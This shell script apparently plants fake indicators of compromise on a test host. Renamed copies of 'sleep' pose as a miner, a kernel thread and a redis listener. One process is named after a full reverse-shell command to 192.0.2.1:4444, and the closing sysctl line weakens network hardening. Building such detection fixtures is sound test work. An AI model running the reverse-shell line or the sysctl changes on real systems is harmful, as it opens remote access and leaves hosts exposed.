# Things that only a running machine can have.
cp /bin/sleep /tmp/worker && setsid /tmp/worker 3600 >/dev/null 2>&1 </dev/null &
sleep 0.3
rm -f /tmp/worker
cp /bin/sleep /dev/shm/miner && setsid /dev/shm/miner 3601 >/dev/null 2>&1 </dev/null &
setsid bash -c 'exec -a "[kworker/0:9]" sleep 3602' >/dev/null 2>&1 </dev/null &
setsid bash -c 'exec -a "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" sleep 3603' >/dev/null 2>&1 </dev/null &
setsid perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0) && bind(S, sockaddr_in(6379, INADDR_ANY)) && listen(S, 5) or die; $0 = "redis-server *:6379"; sleep 3604' >/dev/null 2>&1 </dev/null &
cp /bin/sleep /usr/local/bin/transmission-daemon && setsid /usr/local/bin/transmission-daemon 3605 >/dev/null 2>&1 </dev/null &
sleep 0.5
sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.accept_redirects=1 net.ipv4.conf.all.accept_source_route=1 net.ipv4.tcp_syncookies=0
